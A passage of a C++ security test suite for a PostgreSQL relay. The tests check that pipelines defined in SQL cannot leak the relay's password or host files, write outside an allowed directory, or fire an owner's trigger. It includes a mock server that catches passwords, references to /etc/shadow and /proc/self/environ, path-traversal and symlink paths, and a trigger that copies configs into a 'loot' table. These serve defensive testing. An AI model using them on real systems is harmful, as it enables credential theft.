// Whoever may define pipelines in SQL (set_relay_outbox / set_relay_inbox) is trusted with the
// database, not with the relay's host. Tried as such an admin would: through the relay's config,
// read the relay's environment and files, hand its PostgreSQL password to a server of one's own,
// or write, cut and delete files on its host. The operator's TOML pipelines keep full power.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <fstream>
#include <mutex>
#include <thread>

#include "fixture.h"
#include "http/http_post.h"

using namespace relay::test;
using json = nlohmann::json;
using namespace std::chrono_literals;

namespace {

void write_file(const std::string& path, const std::string& text, mode_t mode = 0644) {
  { std::ofstream(path) << text; }
  ::chmod(path.c_str(), mode);
}

// A server of the attacker's: speaks the start of PostgreSQL's protocol on loopback, asks every
// client for a cleartext password (AuthenticationCleartextPassword) and records what it is sent.
class PasswordCatcher {
 public:
  PasswordCatcher() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
    socklen_t len = sizeof a;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    ::listen(fd_, 16);
    thread_ = std::thread([this] { serve(); });
  }
  ~PasswordCatcher() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  int port() const { return port_; }
  int startups() const { return startups_; }
  std::vector<std::string> passwords() {
    std::lock_guard lock(mu_);
    return passwords_;
  }

 private:
  static bool read_n(int c, void* buf, size_t n) {
    auto* p = static_cast<char*>(buf);
    while (n > 0) {
      pollfd pfd{c, POLLIN, 0};
      if (::poll(&pfd, 1, 5000) <= 0) return false;
      ssize_t r = ::read(c, p, n);
      if (r <= 0) return false;
      p += r;
      n -= static_cast<size_t>(r);
    }
    return true;
  }
  static uint32_t be32(const unsigned char* b) { return (uint32_t(b[0]) << 24) | (b[1] << 16) | (b[2] << 8) | b[3]; }

  void serve() {
    while (!stop_) {
      pollfd pfd{fd_, POLLIN, 0};
      if (::poll(&pfd, 1, 100) <= 0) continue;
      int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) continue;
      converse(c);
      ::close(c);
    }
  }

  void converse(int c) {
    unsigned char head[8];
    while (true) {  // SSL and GSS encryption requests are declined with 'N'
      if (!read_n(c, head, 8)) return;
      uint32_t len = be32(head), code = be32(head + 4);
      if (code == 80877103 || code == 80877104) {
        if (::write(c, "N", 1) != 1) return;
        continue;
      }
      std::string rest(len - 8, '\0');
      if (len < 8 || len > 10000 || !read_n(c, rest.data(), rest.size())) return;
      break;
    }
    ++startups_;
    const unsigned char ask[] = {'R', 0, 0, 0, 8, 0, 0, 0, 3};
    if (::write(c, ask, sizeof ask) != sizeof ask) return;
    unsigned char type;
    unsigned char blen[4];
    if (!read_n(c, &type, 1) || type != 'p' || !read_n(c, blen, 4)) return;
    uint32_t len = be32(blen);
    std::string body(len - 4, '\0');
    if (len < 4 || len > 10000 || !read_n(c, body.data(), body.size())) return;
    {
      std::lock_guard lock(mu_);
      passwords_.push_back(body.c_str());
    }
    const char err[] = "SFATAL\0C28P01\0Mpassword authentication failed\0";
    std::string msg = "E";
    uint32_t n = htonl(static_cast<uint32_t>(4 + sizeof err));  // sizeof err counts the final \0
    msg.append(reinterpret_cast<const char*>(&n), 4);
    msg.append(err, sizeof err);
    (void)!::write(c, msg.data(), msg.size());
  }

  int fd_ = -1, port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> startups_{0};
  std::mutex mu_;
  std::vector<std::string> passwords_;
  std::thread thread_;
};

std::string toml_with(const TestDb& db, const std::string& name, const std::string& pipelines) {
  std::string path = work_dir() + "/" + name + "-" + db.name() + ".toml";
  std::ofstream(path) << "[global]\npostgres_url = \"" << db.relay_url() << "\"\nmetrics_bind = \"127.0.0.1:0\"\n\n" << pipelines;
  return path;
}

TEST(HostAccess, APgInboxOfAPipelineDefinedInSqlNeverHandsTheRelaysPostgresPasswordToTheServerItNames) {
  PasswordCatcher attacker;
  TestDb db;
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  std::string url = "postgresql://victim@127.0.0.1:" + std::to_string(attacker.port()) + "/ledger";
  set_outbox_pipeline(db, "steal", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"postgres_url", url}, {"inbox_name", "x"}});
  // Files of the relay's host named in the URL, and its service file, are not for SQL pipelines.
  set_outbox_pipeline(db, "cert", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"inbox_name", "x"},
                                   {"postgres_url", url + "?sslcert=/etc/passwd&sslkey=/etc/shadow"}});
  set_outbox_pipeline(db, "service", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"inbox_name", "x"},
                                      {"postgres_url", "service=relay dbname=ledger"}});
  std::string home = work_dir() + "/home-" + db.name();
  ::mkdir(home.c_str(), 0700);
  write_file(home + "/.pgpass", "*:*:*:*:pgpass-file-secret\n", 0600);
  {  // The relay's own password in PGPASSWORD
    RelayProcess relay(relay_args(db), {"PGPASSWORD=pgpassword-env-secret"});
    ASSERT_TRUE(wait_until([&] { return attacker.startups() >= 1; }, 20s)) << "the relay never reached the server\n" << relay.err();
    std::string error = wait_for_pipeline_error(relay, "steal");
    EXPECT_NE(error.find("no password supplied"), std::string::npos) << error;
    std::string cert = wait_for_pipeline_error(relay, "cert");
    EXPECT_NE(cert.find("sslcert"), std::string::npos) << cert;
    EXPECT_NE(cert.find("--sql-secrets-dir"), std::string::npos) << cert;
    EXPECT_NE(wait_for_pipeline_error(relay, "service").find("service file"), std::string::npos);
  }
  {  // ... or in ~/.pgpass
    int before = attacker.startups();
    RelayProcess relay(relay_args(db), {"PGPASSWORD=", "PGPASSFILE=" + home + "/.pgpass", "HOME=" + home});
    ASSERT_TRUE(wait_until([&] { return attacker.startups() > before; }, 20s)) << relay.err();
    wait_for_pipeline_error(relay, "steal");
  }
  for (const auto& p : attacker.passwords()) {
    EXPECT_EQ(p.find("pgpassword-env-secret"), std::string::npos) << "the relay's PGPASSWORD reached the attacker";
    EXPECT_EQ(p.find("pgpass-file-secret"), std::string::npos) << "the relay's ~/.pgpass reached the attacker";
  }

  // The same pipeline in the operator's TOML file uses the relay's own libpq settings, as before.
  for (const char* p : {"steal", "cert", "service"}) db.exec(std::string("SELECT pgtrickle.delete_relay('") + p + "')");
  std::string toml = toml_with(db, "pg-inbox", "[[pipeline]]\nname = \"mine\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
                                              "sink = { type = \"pg-inbox\", postgres_url = \"" + url + "\", inbox_name = \"x\" }\n");
  RelayProcess operator_relay({"--config", toml}, {"PGPASSWORD=pgpassword-env-secret"});
  EXPECT_TRUE(wait_until([&] {
    for (const auto& p : attacker.passwords())
      if (p == "pgpassword-env-secret") return true;
    return false;
  }, 20s)) << operator_relay.err();
}

TEST(HostAccess, APipelineDefinedInSqlCannotPutAHostFileIntoErrorsOrAnInbox) {
  TestDb db;
  std::string host_file = work_dir() + "/host-only-" + db.name();
  write_file(host_file, "host-file-secret-line", 0600);
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  // The environment through a file sink's path (its error used to quote the path it could not open).
  set_outbox_pipeline(db, "environ", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", "${FILE:/proc/self/environ}"}});
  set_outbox_pipeline(db, "hostfile", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", "/nonexistent/${FILE:" + host_file + "}"}});
  // A host file as the event_type of every row an HTTP receiver lands.
  int port = free_receiver_port();
  set_inbox_pipeline(db, "receiver", {{"source_type", "http"}, {"listen", "127.0.0.1:" + std::to_string(port)}, {"path", "/in"},
                                      {"bearer_token", "t0k"}, {"inbox_name", "hooks"}, {"event_type", "${FILE:" + host_file + "}"}});
  std::string secrets = work_dir() + "/no-secrets-" + db.name();
  ::mkdir(secrets.c_str(), 0700);
  RelayProcess relay(relay_args(db), {"PGTRICKLE_TEST_MARK=environment-secret-value", "PGTRICKLE_RELAY_SQL_SECRETS_DIR=" + secrets});
  for (const char* p : {"environ", "hostfile", "receiver"}) {
    std::string error = wait_for_pipeline_error(relay, p);
    EXPECT_FALSE(error.empty()) << p << "\n" << relay.err();
    EXPECT_EQ(error.find("environment-secret-value"), std::string::npos) << error;
    EXPECT_EQ(error.find("host-file-secret-line"), std::string::npos) << error;
  }
  EXPECT_NE(wait_for_pipeline_error(relay, "receiver").find("--sql-secrets-dir"), std::string::npos);
  httplib::Client c("127.0.0.1", port);
  c.set_connection_timeout(1);
  auto r = c.Post("/in", {{"Authorization", "Bearer t0k"}}, "{\"a\":1}", "application/json");
  EXPECT_FALSE(r && r->status < 300) << "the receiver was not to run";
  if (db.value("SELECT to_regclass('pgtrickle.inbox_hooks') IS NOT NULL") == "t") {
    EXPECT_EQ(db.number("SELECT count(*) FROM pgtrickle.inbox_hooks WHERE event_type LIKE '%secret%'"), 0);
  }
  EXPECT_EQ(relay.err().find("host-file-secret-line"), std::string::npos);
  EXPECT_EQ(relay.err().find("environment-secret-value"), std::string::npos);
}

// A reference that resolves, to a value its key's own check refuses (or a server refuses): the
// error names the key and the reference, and the value (a secret, as far as anyone knows) is in
// none of /health, the log and relay_pipeline_status.last_error.
TEST(HostAccess, AReferencedValueAKeyRefusesIsNamedByItsReferenceNeverQuoted) {
  TestDb db;
  db.exec("CREATE TABLE orders (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('orders', capture => 'wal')");
  set_inbox_pipeline(db, "listen", {{"source_type", "http"}, {"listen", "${ENV:PGTR_T_LISTEN}"}, {"path", "/in"},
                                    {"bearer_token", "t0k"}, {"inbox_name", "hooks"}});
  // A slot's name is for every login to see (pg_replication_slots): a reference there is refused where it is written.
  EXPECT_NE(db.error_of("SELECT pgtrickle.set_relay_outbox('slot', config => '{\"stream_table\": \"orders\", "
                        "\"slot_name\": \"${ENV:PGTR_T_SLOT}\", \"sink_type\": \"stdout\"}'::jsonb)")
                .find("key \"slot_name\" names a replication slot"), std::string::npos);
  set_inbox_pipeline(db, "redis", {{"source_type", "redis"}, {"redis_url", "${ENV:PGTR_T_REDIS}"}, {"redis_stream_key", "k"},
                                   {"redis_group", "g"}, {"inbox_name", "hooks"}});
  // A NATS token written as the URL's user, and a server that does not answer: the pipeline
  // retries, and its status row holds the connection error.
  db.exec("SELECT pgtrickle.create_outbox('order_events')");
  set_outbox_pipeline(db, "nats", {{"outbox", "order_events"}, {"sink_type", "nats"}, {"nats_url", "${ENV:PGTR_T_NATS}"},
                                   {"nats_stream", "s"}, {"subject_template", "s.x"}});
  RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_SECRETS_ENV_PREFIX=PGTR_T_",
                                      "PGTR_T_LISTEN=127.0.0.1:Listen-Secret-4e1d",
                                      "PGTR_T_SLOT=Slot-Secret-77ab", "PGTR_T_REDIS=redis://relay:Redis-Secret-90c3",
                                      "PGTR_T_NATS=nats://Nats-Secret-5b0e@127.0.0.1:1"});
  const std::pair<const char*, const char*> cases[] = {
      {"listen", "${ENV:PGTR_T_LISTEN}"}, {"redis", "url"}, {"nats", "${ENV:PGTR_T_NATS}"}};
  for (const auto& [pipeline, named] : cases) {
    std::string error = wait_for_pipeline_error(relay, pipeline);
    EXPECT_NE(error.find(named), std::string::npos) << pipeline << ": " << error;
  }
  ASSERT_TRUE(wait_until([&] {
    return db.number("SELECT count(*) FROM pgtrickle.relay_pipeline_status WHERE pipeline = 'nats' AND last_error <> ''") == 1;
  }, 15s)) << relay.err();
  int status = 0;
  std::string health = http_get(relay.admin_port(), "/health", status);
  std::string stored = db.value("SELECT string_agg(pipeline || ': ' || last_error, E'\\n') FROM pgtrickle.relay_pipeline_status");
  EXPECT_NE(stored.find("${ENV:PGTR_T_NATS}"), std::string::npos) << stored;
  EXPECT_EQ(db.number("SELECT count(*) FROM pg_replication_slots WHERE slot_name LIKE '%Secret%'"), 0);
  for (const char* secret : {"Listen-Secret", "Slot-Secret", "Redis-Secret", "Nats-Secret"}) {
    EXPECT_EQ(health.find(secret), std::string::npos) << health;
    EXPECT_EQ(stored.find(secret), std::string::npos) << stored;
    EXPECT_EQ(relay.err().find(secret), std::string::npos) << relay.err();
  }
}

// The operator's own TOML file is held to the same rule: a table named by a reference would be
// created in pg_class for every login to read; the relay refuses to start, naming the key.
TEST(HostAccess, AReferenceNeverNamesATableTheRelayCreates) {
  TestDb db;
  std::string toml = toml_with(db, "named", "[[pipeline]]\nname = \"named\"\n"
                                            "source = { type = \"http\", listen = \"127.0.0.1:0\", path = \"/in\", bearer_token = \"t0k\" }\n"
                                            "sink = { type = \"pg-inbox\", inbox_table = \"${ENV:PGTR_T_TABLE}\" }\n");
  RelayProcess relay({"--config", toml}, {"PGTR_T_TABLE=Table-Secret-3c9a"});
  ASSERT_GE(relay.wait(20s), 0) << "the relay ran with the pipeline\n" << relay.err();
  EXPECT_NE(relay.err().find("key \\\"inbox_table\\\" names a table, which others can see"), std::string::npos) << relay.err();
  EXPECT_EQ(relay.err().find("Table-Secret"), std::string::npos) << relay.err();
  EXPECT_EQ(db.number("SELECT count(*) FROM pg_class WHERE relname LIKE '%Table-Secret%'"), 0);
}

// A secret file longer than an error's buffer (a 600-byte token) or of two lines (a PEM, a NATS
// .creds file), handed to keys that refuse it: librdkafka quotes a security.protocol it does not
// know, cut at 511 bytes, and the HTTP receiver's check quotes a listen address it cannot read.
// No part of either secret (8 bytes or more) is in /health, the log or
// relay_pipeline_status.last_error, and the errors name the key and the reference.
TEST(HostAccess, ASecretFileIsShownNeitherWholeNorByTheLineNorCutShort) {
  TestDb db;
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  std::string secrets = work_dir() + "/cut-secrets-" + db.name();
  ::mkdir(secrets.c_str(), 0700);
  std::string token = incompressible_text(600, "token-" + db.name());
  std::string creds_jwt = incompressible_text(120, "jwt-" + db.name()), creds_seed = incompressible_text(58, "seed-" + db.name());
  write_file(secrets + "/token", token + "\n", 0600);
  write_file(secrets + "/creds", creds_jwt + "\n" + creds_seed + "\n", 0600);
  const std::string token_ref = "${FILE:" + secrets + "/token}", creds_ref = "${FILE:" + secrets + "/creds}";
  // A broker nobody listens on: librdkafka refuses the property before it would connect.
  for (const auto& [name, ref] : {std::pair{"kafka-token", token_ref}, std::pair{"kafka-creds", creds_ref}})
    set_outbox_pipeline(db, name, {{"stream_table", "t"}, {"sink_type", "kafka"}, {"brokers", "127.0.0.1:55561"}, {"topic", "t"},
                                   {"rdkafka", {{"security.protocol", ref}}}});
  set_inbox_pipeline(db, "listen-creds", {{"source_type", "http"}, {"listen", creds_ref}, {"path", "/in"},
                                          {"bearer_token", "t0k"}, {"inbox_name", "hooks"}});
  // The token as a NATS URL's user, and no server there: the pipeline retries.
  write_file(secrets + "/nats-url", "nats://" + token + "@127.0.0.1:55561\n", 0600);
  const std::string nats_ref = "${FILE:" + secrets + "/nats-url}";
  set_outbox_pipeline(db, "nats-token", {{"stream_table", "t"}, {"sink_type", "nats"}, {"nats_url", nats_ref}, {"nats_stream", "s"},
                                         {"subject_template", "s.x"}});
  RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_SECRETS_DIR=" + secrets});
  for (const auto& [name, ref] : {std::pair{"kafka-token", token_ref}, std::pair{"kafka-creds", creds_ref}}) {
    std::string error = wait_for_pipeline_error(relay, name);
    EXPECT_NE(error.find("key \"rdkafka.security.protocol\" (from " + ref + ") is refused by librdkafka"), std::string::npos)
        << name << ": " << error << "\n" << relay.err();
  }
  std::string listen = wait_for_pipeline_error(relay, "listen-creds");
  EXPECT_NE(listen.find(creds_ref), std::string::npos) << listen;
  // A failed pipeline has no status row; one retrying has, with its error.
  ASSERT_TRUE(wait_until([&] {
    return db.number("SELECT count(*) FROM pgtrickle.relay_pipeline_status WHERE pipeline = 'nats-token' AND last_error <> ''") == 1;
  }, 15s)) << relay.err();
  int status = 0;
  const std::string health = http_get(relay.admin_port(), "/health", status);
  const std::string stored = db.value("SELECT string_agg(pipeline || ': ' || last_error, E'\\n') FROM pgtrickle.relay_pipeline_status");
  EXPECT_NE(stored.find(nats_ref), std::string::npos) << stored;
  for (const std::string* secret : {&token, &creds_jwt, &creds_seed})
    for (size_t at = 0; at + 8 <= secret->size(); ++at) {
      const std::string part = secret->substr(at, 8);
      ASSERT_EQ(health.find(part), std::string::npos) << part << " in /health: " << health;
      ASSERT_EQ(stored.find(part), std::string::npos) << part << " in the status table: " << stored;
      ASSERT_EQ(relay.err().find(part), std::string::npos) << part << " in the log: " << relay.err();
    }
}

// File sinks of pipelines defined in SQL write only under --sql-file-dir: not elsewhere, not
// through "..", not through a symlink; with no directory set, nowhere.
TEST(HostAccess, AFileSinkDefinedInSqlWritesOnlyUnderTheOperatorsDirectory) {
  TestDb db;
  std::string files = work_dir() + "/sql-files-" + db.name();
  ::mkdir(files.c_str(), 0755);
  std::string victim = work_dir() + "/victim-" + db.name();
  const std::string precious = "precious line\nand a last line with no newline";
  write_file(victim, precious);
  ::symlink(victim.c_str(), (files + "/link").c_str());
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  auto file_sink = [&](const std::string& name, const std::string& path) {
    set_outbox_pipeline(db, name, {{"stream_table", "t"}, {"sink_type", "file"}, {"path", path}, {"rotate_bytes", 1}, {"max_files", 0}});
  };
  file_sink("outside", victim);
  file_sink("dotdot", files + "/../victim-" + db.name());
  file_sink("symlink", files + "/link");
  file_sink("inside", files + "/out.jsonl");
  {
    RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_FILE_DIR=" + files});
    ASSERT_TRUE(wait_until([&] { return read_lines(files + "/out.jsonl").size() == 1; }, 15s)) << relay.err();
    EXPECT_NE(wait_for_pipeline_error(relay, "outside").find("--sql-file-dir"), std::string::npos);
    EXPECT_NE(wait_for_pipeline_error(relay, "dotdot").find("--sql-file-dir"), std::string::npos);
    EXPECT_NE(wait_for_pipeline_error(relay, "symlink").find("symbolic link"), std::string::npos);
  }
  {
    RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_FILE_DIR="});
    EXPECT_NE(wait_for_pipeline_error(relay, "outside").find("--sql-file-dir"), std::string::npos);
  }
  EXPECT_EQ(read_file(victim), precious) << "the file outside the directory is untouched";
}

// The README's file example writes to a directory that may not exist yet: the relay creates the
// missing directories (as `mkdir -p`); a path through a file gets a clear error. A pipeline defined
// in SQL gets directories created only inside --sql-file-dir: not through "..", not through a
// symlink out of it.
TEST(HostAccess, AFileSinkCreatesMissingDirectoriesButAPipelineDefinedInSqlOnlyInsideItsDirectory) {
  TestDb db;
  std::string files = work_dir() + "/mkdir-" + db.name();
  std::string outside = work_dir() + "/mkdir-outside-" + db.name();
  ::mkdir(files.c_str(), 0755);
  ::mkdir(outside.c_str(), 0755);
  ::symlink(outside.c_str(), (files + "/escape").c_str());
  write_file(files + "/plain-file", "x\n");
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  set_outbox_pipeline(db, "sql-nested", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", files + "/a/b/out.jsonl"}});
  set_outbox_pipeline(db, "sql-dotdot", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", files + "/new/../../mkdir-dd-" + db.name() + "/o"}});
  set_outbox_pipeline(db, "sql-symlink", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", files + "/escape/new/out.jsonl"}});
  std::string toml_out = work_dir() + "/mkdir-toml-" + db.name() + "/x/y/out.jsonl";
  std::string toml = write_toml(db, "[[pipeline]]\nname = \"toml-nested\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
                                    "sink = { type = \"file\", path = \"" + toml_out + "\" }\n"
                                    "[[pipeline]]\nname = \"toml-through-file\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
                                    "sink = { type = \"file\", path = \"" + files + "/plain-file/sub/out.jsonl\" }\n");
  RelayProcess relay({"--config", toml, "--sql-file-dir", files});
  ASSERT_TRUE(wait_until([&] { return read_lines(toml_out).size() == 1; }, 15s)) << "a TOML pipeline gets its directories\n" << relay.err();
  ASSERT_TRUE(wait_until([&] { return read_lines(files + "/a/b/out.jsonl").size() == 1; }, 15s)) << "so does an SQL one, inside its directory\n" << relay.err();
  EXPECT_NE(wait_for_pipeline_error(relay, "toml-through-file").find("plain-file is not a directory"), std::string::npos);
  EXPECT_NE(wait_for_pipeline_error(relay, "sql-dotdot").find("\"..\""), std::string::npos);
  EXPECT_NE(wait_for_pipeline_error(relay, "sql-symlink").find("--sql-file-dir"), std::string::npos);
  struct stat st {};
  EXPECT_NE(::stat((outside + "/new").c_str(), &st), 0) << "no directory was created through the symlink";
  EXPECT_NE(::stat((work_dir() + "/mkdir-dd-" + db.name()).c_str(), &st), 0) << "nor above the directory";
  EXPECT_NE(::stat((files + "/new").c_str(), &st), 0) << "nor on the way to \"..\"";
}

// For every file sink, TOML too: a file the relay did not create is never cut (the torn-line
// repair) nor renamed or deleted (rotation); its last line is ended with a newline and kept.
TEST(HostAccess, AFileSinkNeverCutsRotatesOrDeletesAFileTheRelayDidNotCreate) {
  TestDb db;
  std::string files = work_dir() + "/own-" + db.name();
  ::mkdir(files.c_str(), 0755);
  const std::string precious = "user line one\nuser line without newline";
  std::string appended = files + "/appended.log", rotated = files + "/rotated.log", toml_target = files + "/toml.log";
  for (const auto& f : {appended, rotated, toml_target}) write_file(f, precious);
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1), (2)");
  set_outbox_pipeline(db, "append", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", appended}});
  set_outbox_pipeline(db, "rotate", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", rotated}, {"rotate_bytes", 1}, {"max_files", 0}});
  std::string toml = toml_with(db, "own", "[[pipeline]]\nname = \"toml-rotate\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
                                         "sink = { type = \"file\", path = \"" + toml_target + "\", rotate_bytes = 1, max_files = 0 }\n");
  RelayProcess relay({"--config", toml, "--sql-file-dir", files});
  ASSERT_TRUE(wait_until([&] { return read_lines(appended).size() == 4; }, 15s)) << relay.err() << read_file(appended);
  std::string text = read_file(appended);
  EXPECT_EQ(text.rfind(precious + "\n", 0), 0u) << "the user's bytes stay, their last line ended by a newline\n" << text;
  EXPECT_NE(text.find("\"id\":2"), std::string::npos) << text;
  for (const char* p : {"rotate", "toml-rotate"}) {
    std::string error = wait_for_pipeline_error(relay, p);
    EXPECT_NE(error.find("did not create it"), std::string::npos) << p << ": " << error;
  }
  EXPECT_EQ(read_file(rotated).rfind(precious, 0), 0u) << "not deleted nor replaced";
  EXPECT_EQ(read_file(toml_target).rfind(precious, 0), 0u) << "not deleted nor replaced";
}

// A file the relay created is its own to repair and rotate: after a crash left half a line, it is
// cut back; rotating with max_files = 0 replaces it.
TEST(HostAccess, TheRelaysOwnFileIsRepairedAndRotatedAcrossRestarts) {
  TestDb db;
  std::string out = work_dir() + "/own-rotate-" + db.name() + ".jsonl";
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  db.exec("INSERT INTO t VALUES (1)");
  set_outbox_pipeline(db, "own", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", out}, {"rotate_bytes", 100000}, {"max_files", 0}});
  {
    RelayProcess relay(relay_args(db));
    ASSERT_TRUE(wait_until([&] { return read_lines(out).size() == 1; }, 15s)) << relay.err();
    // Stored past row 1 before the relay goes (kill -9): else row 1 comes again, as at-least-once allows.
    ASSERT_TRUE(wait_until([&] { return db.number("SELECT count(*) FROM pgtrickle.relay_offsets WHERE pipeline = 'own' AND last_id >= 1") == 1; },
                           15s)) << relay.err();
  }
  { std::ofstream(out, std::ios::app) << "{\"torn\":tr"; }
  set_outbox_pipeline(db, "own", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", out}, {"rotate_bytes", 1}, {"max_files", 0}});
  db.exec("INSERT INTO t VALUES (2)");
  RelayProcess relay(relay_args(db));
  ASSERT_TRUE(wait_until([&] {
    auto lines = json_lines(out);
    return lines.size() == 1 && lines[0]["payload"]["id"] == 2;
  }, 15s)) << relay.err() << read_file(out);
  EXPECT_EQ(read_file(out).find("torn"), std::string::npos);
}

}  // namespace

// A pipeline admin who owns a table, taken over as an inbox, could hang a trigger on it that runs
// as whoever writes the table: the relay's role, which reads every raw config. A pipeline defined
// in SQL writes into the relay's database only into inbox tables of the installer.
TEST(HostAccess, APipelineDefinedInSqlNeverWritesIntoATableAPipelineAdminOwns) {
  TestDb db;
  std::string admin = db.name() + "_padmin";
  db.exec("CREATE ROLE " + admin + " IN ROLE pgtrickle_relay_admin");
  db.exec("GRANT USAGE, CREATE ON SCHEMA public TO pgtrickle_maker WITH GRANT OPTION");  // where inbox tables are made
  db.exec("SELECT pgtrickle.create_inbox_table('jobs', 'public')");
  db.exec("ALTER TABLE public.jobs OWNER TO " + admin);
  db.exec("GRANT INSERT, SELECT ON public.jobs TO pgtrickle_relay");
  db.exec("CREATE TABLE public.loot (what text)");
  db.exec("GRANT INSERT ON public.loot TO pgtrickle_relay");
  db.exec(R"(CREATE FUNCTION public.steal() RETURNS trigger LANGUAGE plpgsql AS $$
             BEGIN INSERT INTO public.loot SELECT config::text FROM pgtrickle.relay_outbox_config; RETURN NULL; END $$)");
  db.exec("CREATE TRIGGER steal AFTER INSERT ON public.jobs FOR EACH STATEMENT EXECUTE FUNCTION public.steal()");
  db.exec("ALTER FUNCTION public.steal() OWNER TO " + admin);
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  set_outbox_pipeline(db, "victim", {{"stream_table", "t"}, {"sink_type", "webhook"}, {"url", "http://127.0.0.1:9/x"},
                                     {"signing_secret", "other-teams-secret"}});
  int port = free_receiver_port();
  set_inbox_pipeline(db, "trap", {{"source_type", "http"}, {"listen", "127.0.0.1:" + std::to_string(port)}, {"path", "/in"},
                                  {"bearer_token", "t0k"}, {"inbox_table", "public.jobs"}});
  RelayProcess relay(relay_args(db));
  std::string error = wait_for_pipeline_error(relay, "trap");
  EXPECT_NE(error.find("belongs to role \"" + admin + "\""), std::string::npos) << error << "\n" << relay.err();
  httplib::Client c("127.0.0.1", port);
  c.set_connection_timeout(1);
  c.set_read_timeout(5);
  auto r = c.Post("/in", {{"Authorization", "Bearer t0k"}}, R"({"a":1})", "application/json");
  EXPECT_FALSE(r && r->status < 300) << "the receiver was not to run";
  EXPECT_EQ(db.number("SELECT count(*) FROM public.jobs"), 0);
  EXPECT_EQ(db.number("SELECT count(*) FROM public.loot"), 0) << db.value("SELECT string_agg(what, ' | ') FROM public.loot");
}

// The owner of the schema an inbox lives in may drop the installer's inbox table (a schema's owner
// may drop any table in it) and put her own under its name, with a trigger that reads every raw
// config as whoever writes the table. Here the schema is handed to a pipeline admin while the relay
// runs, after its sink checked the table: the relay checks the table it locked in every batch's
// transaction, so her trigger never runs; the batch is refused, not acknowledged, and retried with
// the reason on /health and in the status table. Once the schema and an inbox table are the
// installer's again, the event lands, once.
TEST(HostAccess, AnInboxTableSwappedWhileTheRelayRunsIsNeverWritten) {
  TestDb db;
  std::string admin = db.name() + "_padmin";
  db.exec("CREATE ROLE " + admin + " IN ROLE pgtrickle_relay_admin");
  db.exec("CREATE SCHEMA drop_box");
  db.exec("GRANT USAGE ON SCHEMA drop_box TO PUBLIC");
  db.exec("GRANT USAGE, CREATE ON SCHEMA drop_box TO pgtrickle_maker WITH GRANT OPTION");  // where inbox tables are made
  db.exec("SELECT pgtrickle.create_inbox('jobs', 'drop_box')");
  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
  db.exec("SELECT pgtrickle.enable_outbox('t')");
  set_outbox_pipeline(db, "victim", {{"stream_table", "t"}, {"sink_type", "webhook"}, {"url", "http://127.0.0.1:9/x"},
                                     {"signing_secret", "other-teams-secret"}});
  int port = free_receiver_port();
  set_inbox_pipeline(db, "drop", {{"source_type", "http"}, {"listen", "127.0.0.1:" + std::to_string(port)}, {"path", "/in"},
                                  {"bearer_token", "t0k"}, {"inbox_table", "drop_box.inbox_jobs"}, {"retry_max_ms", 1000}});
  RelayProcess relay(relay_args(db));
  httplib::Client c("127.0.0.1", port);
  c.set_connection_timeout(1);
  c.set_read_timeout(20);
  auto post = [&](const std::string& key) {
    auto r = c.Post("/in", {{"Authorization", "Bearer t0k"}, {"Idempotency-Key", key}}, R"({"a":1})", "application/json");
    return r ? r->status : 0;
  };
  ASSERT_TRUE(wait_until([&] { return post("first") == 200; }, 15s)) << relay.err();
  ASSERT_EQ(db.number("SELECT count(*) FROM drop_box.inbox_jobs"), 1);

  db.exec("ALTER SCHEMA drop_box OWNER TO " + admin);
  db.exec("SET ROLE " + admin + R"(;
    DROP TABLE drop_box.inbox_jobs CASCADE;
    CREATE TABLE drop_box.inbox_jobs (event_id text PRIMARY KEY, event_type text, source text, aggregate_id text, payload jsonb,
